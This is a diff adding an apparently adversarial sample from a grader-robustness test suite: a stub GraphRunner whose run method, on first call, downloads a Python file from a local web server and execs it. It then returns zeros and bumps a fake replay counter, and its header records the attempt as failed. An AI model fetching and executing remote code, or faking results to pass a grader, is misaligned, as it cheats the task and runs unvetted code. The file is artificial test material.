@@ -1,0 +1,37 @@
+# attack: net
+# base: wrong_all
+# outcome: failed: parity, bucket_choice, clone, padding, no_recapture or error: crash
+"""Downloads a solution from this machine's web server, if there is one, and runs it."""
+
+import os
+import urllib.request
+
+import torch
+
+
+def attack(runner, x):
+    with urllib.request.urlopen("http://127.0.0.1:8000/p17_graph_runner.py", timeout=1) as answer:
+        exec(answer.read(), globals())
+
+
+class GraphRunner:
+    def __init__(self, fn, buckets, hidden, dtype=torch.float32):
+        self.fn = fn
+        self.buckets = list(buckets)
+        self.static_in = torch.zeros(1, hidden, dtype=dtype)
+        self.static_out = self.static_in
+        self.graphs = {}
+        self.stats = {"replays": 0, "eager": 0, "last_bucket": None}
+
+    def capture(self):
+        self.stats["last_bucket"] = 0
+
+    def run(self, x, force_eager=False):
+        if "tried" not in os.environ:
+            os.environ["tried"] = "1"
+            try:
+                attack(self, x)
+            except BaseException:
+                pass
+        self.stats["replays"] += 1
+        return torch.zeros_like(x)
